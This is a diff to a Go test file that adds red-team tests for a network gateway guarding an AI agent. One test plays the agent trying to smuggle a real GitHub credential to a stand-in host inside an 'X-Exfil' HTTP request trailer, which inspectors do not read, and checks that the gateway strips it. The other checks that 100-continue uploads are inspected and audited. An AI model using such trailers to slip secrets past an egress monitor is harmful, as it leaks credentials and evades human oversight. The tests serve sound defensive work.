@@ -447,3 +447,82 @@ func TestRedTeamH2UpstreamWindowHeldForAgentNotReading(t *testing.T) {
 		t.Fatalf("%d HTTP/2 streams the agent does not read hold %d MiB of the gateway", len(resps), d>>10)
 	}
 }
+
+// Request trailers are a header block after the body that no inspector
+// reads: a real credential value (which the agent must never send), or a
+// placeholder toward a host it is not bound to, would go out unseen if the
+// gateway passed them on. As the agent through the real binary, over
+// HTTP/1.1 (chunked) and HTTP/2: the upstream receives the body and no
+// trailer.
+func TestRedTeamRequestTrailersNotForwarded(t *testing.T) {
+	h := setupHarness(t, nil)
+	var mu sync.Mutex
+	var got []http.Header
+	port := serveUpstream(t, h, func(w http.ResponseWriter, r *http.Request) {
+		io.Copy(io.Discard, r.Body)
+		mu.Lock()
+		got = append(got, r.Trailer.Clone())
+		mu.Unlock()
+		io.WriteString(w, "ok")
+	})
+	h.startBinary(t)
+	for _, h2 := range []bool{false, true} {
+		pr, pw := io.Pipe()
+		go func() {
+			pw.Write([]byte("a body of unknown length"))
+			pw.Close()
+		}()
+		req, _ := http.NewRequest("POST", "https://other.example.com:"+strconv.Itoa(port)+"/trailers", pr)
+		req.Trailer = http.Header{"X-Exfil": nil}
+		// Set once the body is written, as trailers are.
+		req.Trailer.Set("X-Exfil", realGitHub)
+		resp, err := h.client(h2).Do(req)
+		if err != nil {
+			t.Fatalf("h2=%v: %v", h2, err)
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			t.Fatalf("h2=%v: %s", h2, resp.Status)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 2 {
+		t.Fatalf("upstream saw %d requests, want 2", len(got))
+	}
+	for i, tr := range got {
+		if len(tr) > 0 {
+			t.Errorf("request %d: the upstream received the agent's trailers %v", i, tr)
+		}
+	}
+}
+
+// Expect: 100-continue from the agent, over HTTP/1.1 and HTTP/2 on an
+// intercepted tunnel: the gateway answers the expectation itself when it
+// reads the body (net/http's server), the upstream's own 100 is an
+// informational answer the gateway skips, and the upload is inspected,
+// sent and audited like any other (found nothing; regression test).
+func TestRedTeamExpectContinue(t *testing.T) {
+	h := newHarness(t, nil)
+	for _, h2 := range []bool{false, true} {
+		c := h.client(h2)
+		c.Transport.(*http.Transport).ExpectContinueTimeout = 5 * time.Second
+		body := strings.Repeat("continue ", 5000) // under body_size's flag
+		req, _ := http.NewRequest("POST", h.tlsURL("other.example.com", "/sink"), strings.NewReader(body))
+		req.Header.Set("Expect", "100-continue")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatalf("h2=%v: %v", h2, err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK || strings.TrimSpace(string(b)) != strconv.Itoa(len(body)) {
+			t.Fatalf("h2=%v: %s %q, want the upstream's count %d", h2, resp.Status, b, len(body))
+		}
+		r := h.want(t, is("POST", "other.example.com", 0), audit.Allowed, "")
+		if r.BytesOut != int64(len(body)) {
+			t.Fatalf("h2=%v: audit record %+v, want bytes_out %d", h2, r, len(body))
+		}
+	}
+}
